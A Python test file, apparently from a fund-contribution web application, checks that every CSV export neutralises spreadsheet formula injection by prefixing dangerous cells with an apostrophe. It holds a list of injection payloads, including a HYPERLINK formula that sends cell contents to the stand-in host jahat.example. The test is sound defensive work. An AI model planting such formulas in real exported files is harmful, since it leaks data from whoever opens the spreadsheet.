"""Formula injection: whatever an employer or a worker is called, no file that is handed out makes a spreadsheet compute."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from io import StringIO

import pytest
from django.http import HttpResponseBase

from openjmo.core.periods import Month
from openjmo.domains.contributions import reads as contributions
from openjmo.domains.identity.actions import represent
from openjmo.protocols.inert import inert
from tests.attacks.walk import World
from tests.domains.identity.makers import make_account
from tests.fund import BUDI, OWN_COLUMNS, SITI, make_employer, post_month
from tests.house.test_every_address import ADDRESSES
from tests.portals.employer.steps import upload
from tests.worker import work

FORMULA = '=HYPERLINK("https://jahat.example/?"&A1,"Saldo")'
NASTY = ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "|x", "%x", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", FORMULA)
_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_RUNS = tuple("=+-@\t\r\n|%\uff1d\uff0b\uff0d\uff20")


def _cells(answer: HttpResponseBase) -> Iterator[str]:
    body = b"".join(answer) if answer.streaming else answer.content  # type: ignore[attr-defined] # not a stream
    text = body.decode("utf-8-sig")
    for row in csv.reader(StringIO(text, newline=""), delimiter=";" if ";" in text.partition("\r\n")[0] else ","):
        yield from row


def _computed(cells: Iterator[str]) -> list[str]:
    """What a spreadsheet would not simply show; a plain number is one."""
    return [cell for cell in cells if (cell.startswith(_RUNS) or cell.strip().startswith(_RUNS)) and not _NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_every_sign_a_spreadsheet_runs_gets_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"
    assert _computed(iter([text])) == [text]
    assert _computed(iter([inert(text)])) == []


def test_no_file_of_any_address_computes(world: World) -> None:
    """Every address that answers CSV, for whoever may have it; here an employer is called like a formula and reports such workers."""
    employer = make_employer(FORMULA, "20999999")
    post_month(employer, Month(2026, 8), [SITI])
    agent_id = make_account("rumus@contoh.example", kind="employer", full_name="=1+1")
    represent(agent_id, employer.ref, date(2026, 1, 1))
    agent = world.browser(agent_id)
    rows = [replace(BUDI, full_name=name, mother_name=name).row() for name in NASTY]
    sheet = StringIO()
    csv.writer(sheet).writerows([OWN_COLUMNS, *rows])
    assert upload(agent, employer, sheet.getvalue().encode(), month="2026-10").status_code == 302
    work()
    report = contributions.reports_of(employer.id, limit=1)[0]
    found, files, disarmed = [], set(), set()
    for client in (world.browser(world.member_id), agent, world.browser(world.officer_id)):
        for address in ADDRESSES:
            if address.short_name == "account_logout":
                continue
            own = {"employer": employer.ref, "ref": report.ref} if address.name.startswith("employer:") else {}
            answer = client.get(world.path(address, **own))
            if answer.headers.get("Content-Type", "").startswith("text/csv"):
                cells = list(_cells(answer))
                files.add(address.short_name)
                found += [f"{address.name}: {cell}" for cell in _computed(iter(cells))]
                disarmed |= {address.short_name} if any(cell.startswith("'=") for cell in cells) else set()
    assert found == []
    assert files >= {"mutasi_csv", "wrong_rows", "example"}
    assert disarmed == {"mutasi_csv", "wrong_rows"}, "what was called like a formula stands in them"
